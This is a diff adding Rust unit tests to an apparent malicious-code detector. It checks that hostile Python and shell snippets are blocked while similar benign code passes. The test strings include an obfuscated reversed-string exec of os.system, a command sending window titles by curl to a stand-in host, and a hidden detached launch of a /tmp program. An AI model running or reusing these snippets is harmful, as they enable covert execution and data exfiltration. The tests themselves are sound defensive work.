@@ -349,5 +349,29 @@ fn a_base64_or_rot13_literal_is_read_as_the_text_it_hides() {
     );
     assert_eq!(hidden.level, Level::Blocked, "{:?}", ids(&hidden));
     assert!(!hidden.unanalysed, "{:?}", ids(&hidden));
-    benign(&py("import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ=').decode())\n"));
+    benign(&py(
+        "import base64\nprint(base64.b64decode('aGVsbG8gd29ybGQ=').decode())\n",
+    ));
+}
+
+#[test]
+fn code_written_backwards_and_window_titles_are_what_they_are() {
+    let backwards = py("exec(''.join(reversed(')\"di\"(metsys.so;so tropmi')))\n");
+    assert_eq!(backwards.level, Level::Blocked, "{:?}", ids(&backwards));
+    benign(&py(
+        "items = [3, 1, 2]\nfor n in reversed(sorted(items)):\n    print(n)\nprint(''.join(reversed('abc')))\n",
+    ));
+    let titles = sh("xdotool getactivewindow getwindowname | curl -s -d @- https://x.example.org/w");
+    assert_eq!(titles.level, Level::Blocked, "{:?}", ids(&titles));
+    benign(&sh("xdotool getactivewindow getwindowname"));
+}
+
+#[test]
+fn a_temporary_program_started_in_a_session_of_its_own_is_hidden() {
+    let hidden =
+        py("import os, subprocess\nsubprocess.Popen(['/tmp/.x'], stdout=subprocess.DEVNULL, preexec_fn=os.setsid)\n");
+    assert!(hidden.level >= Level::High, "{:?}", ids(&hidden));
+    benign(&py(
+        "import os, subprocess\nsubprocess.Popen(['./server'], preexec_fn=os.setsid)\n",
+    ));
 }
